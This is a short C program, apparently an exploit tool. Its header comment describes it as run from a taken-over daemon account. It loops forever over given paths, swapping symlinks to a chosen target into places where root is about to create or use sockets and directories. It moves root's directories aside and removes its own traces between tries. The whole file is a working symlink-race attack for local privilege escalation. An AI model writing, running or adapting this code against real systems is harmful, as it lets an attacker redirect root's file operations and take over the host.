// The daemon's user, taken over: swap-links TARGET PATH... puts links to TARGET where root is about to act, for ever.
//
// A socket or a directory of root at a PATH is replaced by a link, between what root makes there and what root does
// with it next; what is not there is a link before root makes it. Its own links and names are taken away again, so that
// the next try begins as the first.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void put_link(const char *target, const char *path, int id) {
  char link[512], aside[512];
  snprintf(link, sizeof link, "%s.l%d", path, id);
  snprintf(aside, sizeof aside, "%s.a%d", path, id);
  if (symlink(target, link) != 0 && errno != EEXIST) return;
  if (rename(link, path) == 0) return;
  // A directory is moved away first.
  if (errno == EISDIR || errno == ENOTEMPTY || errno == EEXIST) {
    if (rename(path, aside) == 0) {
      rename(link, path);
      usleep(200);
      unlink(path);
      rename(aside, path);
    }
  }
  unlink(link);
}

int main(int argc, char **argv) {
  int id = (int)getpid();
  puts("racing");
  fflush(stdout);
  for (unsigned round = 0;; round++) {
    for (int index = 2; index < argc; index++) {
      const char *path = argv[index];
      struct stat found;
      if (lstat(path, &found) != 0) {
        // Now and then only: a link that stays keeps root from making anything.
        if (errno == ENOENT && round % 64 == 0) put_link(argv[1], path, id);
      } else if (S_ISLNK(found.st_mode)) {
        if (round % 8 == 0) unlink(path);
      } else if (S_ISDIR(found.st_mode) || found.st_uid == 0) {
        put_link(argv[1], path, id);
      }
    }
  }
}
